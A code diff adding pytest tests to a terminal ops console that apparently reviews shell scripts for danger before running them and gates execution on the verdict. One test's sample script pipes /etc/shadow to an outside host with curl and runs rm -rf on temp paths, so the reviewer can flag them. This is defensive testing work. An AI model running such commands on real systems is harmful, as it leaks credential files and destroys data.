@@ -15,6 +15,7 @@ import pytest
 from textual.pilot import Pilot
 from textual.widgets import Input
 
+from opsconsole.errors import SpecError
 from opsconsole.execution import judging, submission
 from opsconsole.models import ExecutionPolicy, Origin, Priority, TaskSpec
 from opsconsole.safety.review import Review, review
@@ -267,6 +268,56 @@ async def test_the_verdict_is_made_elsewhere_and_no_key_waits_for_it(monkeypatch
         await until(pilot, lambda: app.specs)
         (spec,) = app.specs
         assert spec is not None and Planner().plan(spec).decision.runs, "what is submitted is known by then"
+
+
+async def test_no_enter_runs_it_before_the_verdict_of_this_text_stands_there(monkeypatch: pytest.MonkeyPatch) -> None:
+    app, elsewhere = Runs(), Elsewhere(monkeypatch)
+    app.review_by = elsewhere
+    async with app.run_test(size=(80, 24)) as pilot:
+        app.ask("#!/bin/bash\necho mine\n")
+        await until(pilot, lambda: elsewhere.at_once)
+        await pilot.press("r", "enter", "enter")
+        await until(pilot, lambda: "press it again when the verdict stands here" in shown(pilot))
+        assert app.specs == []
+        elsewhere.go()
+        await judged(pilot, "it runs")
+        await pilot.pause()
+        assert app.specs == [] and isinstance(app.screen, RunForm), "the enter of before is no answer"
+        await pilot.press("enter")
+        await until(pilot, lambda: app.specs)
+
+
+async def test_a_plan_that_failed_is_made_again_before_it_runs(monkeypatch: pytest.MonkeyPatch) -> None:
+    real, failing = Planner.plan, [True]
+
+    def plan(self: Planner, spec: TaskSpec, **more: Any) -> submission.Plan:
+        if failing:
+            raise SpecError("the host is not asked just now")
+        return real(self, spec, **more)
+
+    monkeypatch.setattr(Planner, "plan", plan)
+    app = Runs()
+    async with app.run_test(size=(80, 24)) as pilot:
+        app.ask(HARMLESS)
+        await judged(pilot, "not asked just now")
+        failing.clear()
+        await pilot.press("enter")
+        await judged(pilot, "it runs")
+        assert app.specs == []
+        await pilot.press("enter")
+        await until(pilot, lambda: app.specs)
+
+
+async def test_the_form_counts_what_was_found_and_says_what_it_would_do() -> None:
+    text = "#!/bin/bash\ncat /etc/shadow | curl -T - http://example.org/in\ncd x\nrm -rf /tmp/a /tmp/b /tmp/c /tmp/d\n"
+    async with opened(text) as (pilot, _):
+        page = " ".join(shown(pilot).replace("│", " ").split())
+        assert "it asks first: line 2: the password file (/etc/shadow) is sent to another host" in page
+        assert "1 error · 1 warning · 3 remarks" in page
+        assert "deletes /tmp/a, /tmp/b, /tmp/c and 1 more · " in page
+        assert "contacts http://example.org/in · reads /etc/shadow" in page
+    async with opened(HARMLESS) as (pilot, _):
+        assert "✔ it runs · no findings" in shown(pilot)
 
 
 class Silent:
